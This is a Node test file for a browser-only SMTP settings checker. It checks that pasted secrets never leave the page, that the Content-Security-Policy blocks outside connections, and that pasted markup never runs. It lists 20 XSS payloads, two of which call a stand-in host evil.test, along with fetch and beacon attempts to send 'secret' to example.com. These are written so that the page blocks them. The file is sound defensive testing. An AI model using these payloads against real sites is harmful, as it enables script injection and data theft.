// "Nothing leaves this page", made true and checked: the page requests only
// its own files, nothing pasted appears in any request, the CSP blocks any
// other connection, and pasted HTML/JS never runs or becomes an element.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { join, relative } from "node:path";
import { WWW, serve, launch, open, paste } from "./lib/harness.mjs";

const SECRET = "9c1e7a55-0b2d-4f63-8e14-a7d2c9b0f311";
const MARKER = "zq-pasted-marker-7731";

/** Every file the page may load: what is served (build.sh build_site). */
function ownFiles(dir = WWW) {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? ownFiles(join(dir, e.name)) : ["/" + relative(WWW, join(dir, e.name))],
  );
}

const PAYLOADS = [
  `<img src=x onerror="window.__xss=1">`,
  `</textarea><script>window.__xss=2</script>`,
  `<script>window.__xss=3</script>`,
  `javascript:window.__xss=4`,
  `<svg onload="window.__xss=5"></svg>`,
  `"><img src=x onerror=window.__xss=6>`,
  `'><svg/onload=window.__xss=7>`,
  `<iframe src="javascript:parent.__xss=8"></iframe>`,
  `<a href="javascript:window.__xss=9">x</a>`,
  `<body onload=window.__xss=10>`,
  `<details open ontoggle=window.__xss=11>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=12>`,
  `{{constructor.constructor('window.__xss=13')()}}`,
  "${window.__xss=14}`",
  `<style>@import 'http://evil.test/x.css';</style>`,
  `<object data="javascript:window.__xss=16"></object>`,
  `<input autofocus onfocus=window.__xss=17>`,
  `<video><source onerror="window.__xss=18"></video>`,
  `<base href="http://evil.test/"><link rel=stylesheet href=x.css>`,
  `<marquee onstart=window.__xss=20>\u202E<img src=x onerror=window.__xss=20>`,
];

// Tags the checker's UI never creates: any of them in the document or the
// shadow root would have come from a payload.
const FORBIDDEN = "img, script, svg, iframe, a, body body, details, math, style, object, embed, video, source, base, marquee, form, frame";

let server, browser, page;

before(async () => {
  server = await serve();
  browser = await launch();
  page = await open(browser.context, `${server.origin}/`);
  page.on("dialog", (d) => {
    page.dialogs = (page.dialogs ?? 0) + 1;
    d.dismiss();
  });
});

after(async () => {
  await browser?.close();
  await server?.close();
});

test("the page loads only its own files, and nothing pasted appears in any request", async () => {
  await paste(page, `MAIL_HOST=smtp.postmarkapp.com\nMAIL_PORT=587\nMAIL_USERNAME=${SECRET}\nMAIL_PASSWORD=${SECRET}\nMAIL_FROM_ADDRESS=${MARKER}@acme.io\n`);
  await page.locator("smtp-check input.sc-verified").fill(`${MARKER}.io`);
  await page.locator("smtp-check li.sc-finding").first().waitFor().catch(() => {});
  await page.waitForTimeout(300);
  const allowed = new Set(ownFiles());
  for (const r of browser.requests) {
    const url = new URL(r.url);
    if (url.protocol === "data:") continue;
    assert.equal(url.origin, server.origin, `request to another origin: ${r.url}`);
    const path = url.pathname === "/" ? "/index.html" : url.pathname;
    assert.ok(allowed.has(path), `request for something that is not one of the page's files: ${r.url}`);
    for (const s of [SECRET, MARKER, "1f86a2b4"]) {
      assert.ok(!r.url.includes(s) && !r.body.includes(s), `pasted text in a request: ${r.url}`);
    }
  }
  for (const r of server.requests) {
    assert.equal(r.method, "GET", `${r.method} ${r.url}`);
    assert.equal(r.body, "");
    assert.ok(!r.url.includes(SECRET) && !r.url.includes(MARKER));
  }
  assert.ok(browser.requests.length >= 5, "the test saw the page's requests");
});

test("the Content-Security-Policy (a <meta>, no header here) blocks every other connection", async () => {
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  for (const d of ["default-src 'none'", "connect-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "form-action 'none'", "base-uri 'none'"]) {
    assert.ok(meta.includes(d), `CSP has ${d}`);
  }
  const before = browser.requests.length;
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    const tries = {};
    for (const url of ["https://example.com/collect", "http://127.0.0.2:9/x", "http://localhost:1/x"]) {
      tries[url] = await fetch(url, { method: "POST", body: "secret" }).then(() => "sent", () => "blocked");
    }
    navigator.sendBeacon("https://example.com/b", "secret"); // queued, then refused (connect-src)
    const img = new Image();
    img.src = "https://example.com/pixel.gif";
    const script = document.createElement("script");
    script.textContent = "window.__inline = 1";
    document.body.append(script);
    tries.inline = window.__inline === 1 ? "ran" : "blocked";
    script.remove();
    await new Promise((r) => setTimeout(r, 200));
    return { tries, violations };
  });
  assert.deepEqual(outcome.tries, {
    "https://example.com/collect": "blocked",
    "http://127.0.0.2:9/x": "blocked",
    "http://localhost:1/x": "blocked",
    inline: "blocked",
  });
  assert.ok(outcome.violations.includes("connect-src"));
  assert.ok(outcome.violations.includes("img-src"));
  assert.ok(outcome.violations.includes("script-src-elem") || outcome.violations.includes("script-src"));
  await page.waitForTimeout(200);
  const leaked = browser.requests
    .slice(before)
    .filter((r) => !r.url.startsWith(server.origin) && !/csp|blocked/i.test(r.failure ?? ""));
  assert.deepEqual(leaked, [], "no request left for another origin");
  page.errors.length = 0; // the console reports each blocked attempt
});

test("20 XSS payloads pasted into values and the verified field run nothing and create no element", async () => {
  assert.equal(PAYLOADS.length, 20);
  const baseline = await page.evaluate((sel) => [...document.querySelectorAll(sel)].map((e) => e.outerHTML), FORBIDDEN);
  for (const [i, p] of PAYLOADS.entries()) {
    const texts = [
      `MAIL_HOST=${p}\nMAIL_PORT=${p}\nMAIL_USERNAME=${p}\nMAIL_PASSWORD=${p}\nMAIL_FROM_ADDRESS="${p}"\n`,
      `const t = nodemailer.createTransport({ host: "${p}", port: 587, auth: { user: '${p}', pass: "x" } });\n`,
      `MAILER_DSN=smtp://${p}:${p}@${p}:587\n`,
      `${p}\n`,
    ];
    for (const text of texts) {
      await paste(page, text);
      await page.locator("smtp-check input.sc-verified").fill(p);
      // Hover and click everything the user could: findings, notices.
      const jumps = page.locator("smtp-check button.sc-jump");
      if (await jumps.count()) await jumps.first().click();
    }
    await page.waitForTimeout(50);
    const state = await page.evaluate((sel) => {
      const host = document.querySelector("smtp-check");
      return {
        xss: window.__xss ?? null,
        inDocument: [...document.querySelectorAll(sel)].map((e) => e.outerHTML),
        // The links the UI makes: a finding's rule page and the probe's
        // downloads, on this site.
        inShadow: [...host.shadowRoot.querySelectorAll(sel)]
          .filter(
            (e) =>
              !(
                (e.matches("a.sc-rule") &&
                  e.href.startsWith(`${location.origin}/rules/`) &&
                  /^\/rules\/[a-z0-9-]+\/[a-z0-9-]+\.html$/.test(new URL(e.href).pathname)) ||
                (e.matches("a.sc-download") &&
                  /^\/download\/([a-z0-9_-]+\/smtp-probe(\.exe)?|SHA256SUMS)$/.test(new URL(e.href).pathname) &&
                  e.href.startsWith(`${location.origin}/download/`))
              ),
          )
          .map((e) => e.outerHTML),
        inputs: host.shadowRoot.querySelectorAll("input, textarea, link").length,
        pastedShown: host.shadowRoot.querySelector(".sc-backdrop").textContent.length > 0,
      };
    }, FORBIDDEN);
    assert.deepEqual(
      state,
      // inputs: the paste area, the verified field, the unsafe-fixes toggle, the stylesheet link.
      { xss: null, inDocument: baseline, inShadow: [], inputs: 4, pastedShown: true },
      `payload ${i + 1}: ${p}`,
    );
  }
  assert.equal(page.dialogs ?? 0, 0, "no dialog opened");
  const evil = browser.requests.filter((r) => r.url.includes("evil.test") || r.url.includes("/x.css") || r.url.endsWith("/x") && !r.failure);
  assert.deepEqual(evil, []);
  assert.deepEqual(page.errors, []);
});
